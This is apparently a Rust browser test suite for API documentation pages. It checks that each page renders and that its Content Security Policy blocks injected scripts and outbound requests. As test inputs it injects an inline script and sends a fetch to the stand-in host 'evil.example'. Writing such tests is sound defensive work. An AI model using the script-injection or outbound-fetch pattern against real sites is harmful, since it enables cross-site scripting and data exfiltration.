//! The pages that describe the API, under the policies that they are served with.

use crate::browser::Browser;
use fasttrack_tests::{Server, eventually};

#[tokio::test]
async fn every_page_works_with_what_its_policy_allows_and_nothing_more() {
    let Some(browser) = Browser::start().await else { return };
    let server = Server::start();
    for (path, rendered) in [
        ("/docs", "document.querySelectorAll('.opblock').length > 40"),
        ("/redoc", "document.querySelectorAll('[data-section-id^=\"tag/\"]').length > 5"),
        ("/docs/realtime", "document.querySelector('[role=status]')?.textContent === 'Not connected.'"),
    ] {
        browser.open(&format!("{}{path}", server.url())).await;
        let shown = format!("return {rendered};");
        eventually(&format!("{path} is shown"), async || browser.run(&shown).await == true).await;
        assert_eq!(browser.complaints().await, Vec::<String>::new(), "{path}");

        // A script that somebody has smuggled in doesn't run, and nobody else can be told anything.
        let ran = "const script = document.createElement('script');
            script.textContent = 'window.ran = true';
            document.body.append(script);
            return window.ran ?? false;";
        assert_eq!(browser.run(ran).await, false, "{path}");
        let told = "return fetch('https://evil.example', {mode: 'no-cors'}).then(() => 'told', () => 'refused');";
        assert_eq!(browser.run(told).await, "refused", "{path}");
        let complaints = browser.complaints().await;
        let refused = complaints.iter().filter(|line| line.contains("Content Security Policy")).count();
        assert!(refused >= 2, "{complaints:#?}");
    }
    browser.close().await;
}

#[tokio::test]
async fn the_page_to_try_the_api_sends_requests_and_shows_answers() {
    let Some(browser) = Browser::start().await else { return };
    let server = Server::start();
    browser.open(&format!("{}/docs#/operations/live", server.url())).await;
    let press = "const button = document.querySelector('.opblock .execute');
        button?.click();
        return button !== null;";
    eventually("it is sent", async || browser.run(press).await == true).await;
    let status = "const cells = [...document.querySelectorAll('.live-responses-table .response-col_status')];
        return cells.some((cell) => cell.textContent.startsWith('200'));";
    eventually("it is answered", async || browser.run(status).await == true).await;
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.close().await;
}
